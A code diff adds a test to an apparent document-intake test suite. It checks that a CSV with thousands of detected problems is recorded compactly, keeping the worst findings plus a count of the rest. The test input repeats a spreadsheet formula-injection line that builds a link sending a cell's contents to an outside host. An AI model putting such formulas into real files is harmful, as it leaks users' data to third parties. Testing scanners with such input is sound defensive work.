@@ -32,6 +32,16 @@ test("A document that is what it was declared as is released, and its content co
   });
 });
 
+test("The record of a document with thousands of findings has the worst ones and the number of the others.", async () => {
+  const bytes = Buffer.from('=HYPERLINK("https://example.com/?"&A1)\n'.repeat(5000));
+  const { id, etag } = await intake.registerAndUpload({ ...samples.csv(), bytes });
+  await intake.runWorkflow(id, etag);
+  const { findings = [], omittedFindings = 0 } = (await intake.ledger.get(id)) ?? {};
+  expect(findings.length).toBeLessThanOrEqual(60);
+  expect(findings.length + omittedFindings).toBeGreaterThanOrEqual(5000);
+  expect(Buffer.byteLength(JSON.stringify(findings))).toBeLessThan(32 * 1024);
+});
+
 test("A document that is withdrawn while it is inspected does not fail its workflow.", async () => {
   const { id, etag } = await intake.registerAndUpload(samples.pdf());
   await intake.ledger.transition("inspection-started", id, { actor: "system:workflow" });
